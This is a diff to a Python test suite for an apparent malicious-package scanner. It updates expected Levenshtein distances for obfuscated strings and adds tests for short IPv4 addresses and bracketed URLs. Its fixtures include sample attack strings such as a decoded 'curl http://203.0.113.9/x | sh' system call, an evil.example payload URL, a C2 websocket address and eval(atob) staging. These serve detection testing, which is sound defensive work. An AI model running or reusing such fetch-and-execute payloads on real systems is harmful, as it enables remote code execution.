@@ -57,8 +57,8 @@ def test_python_base64_exec_and_chr_join():
     assert fs.urls == [] and fs.ip_addresses == []
     assert _items(fs, "char_codes") == [("char_codes", 4, "http://")]
     # 13 \xNN escapes (52 chars) and two quotes against 13 plain characters with nothing in
-    # common: the distance is the raw literal's whole length.
-    assert fs.escaped_strings == [{"value": "import socket", "levenshtein_dist": 54,
+    # common: with OSSF's costs (substitution 2 = delete + insert) the distance is both lengths.
+    assert fs.escaped_strings == [{"value": "import socket", "levenshtein_dist": 54 + 13,
                                    "raw": '"' + "".join(f"\\x{ord(c):02x}" for c in "import socket")
                                           + '"'}]
     assert fs.hex_strings == ["deadbeefcafebabe0123"]
@@ -83,7 +83,7 @@ def test_javascript_hex_mangled():
         {"name": "_0x4e2a", "rule": "hex"}, {"name": "_0x1b3c", "rule": "hex"},
         {"name": "_0x2d4f", "rule": "hex"}, {"name": "_0x5a6b", "rule": "hex"},
         {"name": "u", "rule": "single"}, {"name": "a1234", "rule": "numeric"}]
-    assert fs.escaped_strings == [{"value": "child_process", "levenshtein_dist": 53,
+    assert fs.escaped_strings == [{"value": "child_process", "levenshtein_dist": 65,
                                    "raw": "'" + "".join(f"\\x{ord(c):02x}" for c in "child_process")
                                           + "'"}]
     assert fs.base64_strings == ["aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF5bG9hZA=="]
@@ -106,7 +106,7 @@ def test_typescript():
     assert [s["name"] for s in fs.suspicious_identifiers] == ["_0xab12", "_0xcd34", "_0xef56"]
     assert fs.base64_strings == ["ZXZhbChhdG9iKCJjM1JoWjJVeSIpKQ=="]
     assert ("decoded_base64", 1, 'eval(atob("c3RhZ2Uy"))') in _items(fs)
-    assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == [("http://", 44)]
+    assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == [("http://", 51)]
     assert fs.urls == ["wss://c2.example:8443/socket"]
 
 
@@ -130,7 +130,7 @@ def test_ruby():
     ]
     assert _items(fs, "char_codes") == [("char_codes", 3, "http://ev")]
     assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == \
-        [("wget -qO- http", 58)]
+        [("wget -qO- http", 72)]
     assert fs.ip_addresses == []  # "3.1.0.2" is a version
 
 
@@ -151,7 +151,7 @@ def test_php():
     assert ("decoded_base64", 3, 'system("curl http://203.0.113.9/x | sh");') in _items(fs)
     assert ("ip", 3, "203.0.113.9") in _items(fs)
     assert fs.escaped_strings[0]["value"] == "http://evil.example"
-    assert fs.escaped_strings[0]["levenshtein_dist"] == 74
+    assert fs.escaped_strings[0]["levenshtein_dist"] == 93
     assert fs.urls == ["http://evil.example"]
     # OSSF's IPv6 pattern also matches the "::" of "Foo::Bar::baz"; a real address stays
     assert fs.ip_addresses == ["2001:db8::dead:beef"]
@@ -195,7 +195,7 @@ def test_shell():
     assert fs.ip_addresses == ["192.0.2.77"]
     assert ("decoded_base64", 4, "export PATH=/tmp/.cache:$PATH") in _items(fs)
     assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == \
-        [("http://evil.example/s", 84)]
+        [("http://evil.example/s", 102)]
     assert fs.suspicious_identifiers == [{"name": "H", "rule": "single"}]
 
 
@@ -253,3 +253,19 @@ def test_base64_hex_url_and_identifier_rules():
     assert find_urls("http://{}/x and http://not_a_host/") == []
     assert [suspicious_rule(n) for n in ("_0x1f2e", "a123", "x", "_", "ok", "ab12")] == \
         ["hex", "numeric", "single", "single", None, None]
+
+
+def test_short_ipv4_literals_are_scanned():
+    # "8.8.4.4" is seven characters: a length gate of eight never looked at it.
+    src = b'const dns = "8.8.4.4";\nconst c2 = "1.1.1.1";\nconst v = "1.2.3";\n'
+    fs = _signals("pkg/index.js", src)
+    assert fs.ip_addresses == ["8.8.4.4", "1.1.1.1"]
+
+
+def test_url_keeps_the_brackets_it_opened():
+    assert find_urls("http://en.example.org/wiki/Foo_(bar)") == ["http://en.example.org/wiki/Foo_(bar)"]
+    # The sentence's own bracket is not part of the URL (an unbalanced one is stripped) ...
+    assert find_urls("(see http://evil.example/x)") == ["http://evil.example/x"]
+    assert find_urls("[http://evil.example/a_(b)].") == ["http://evil.example/a_(b)"]
+    # ... and a URL cannot hide behind brackets: the host is still checked
+    assert find_urls("http://(evil).example/") == []
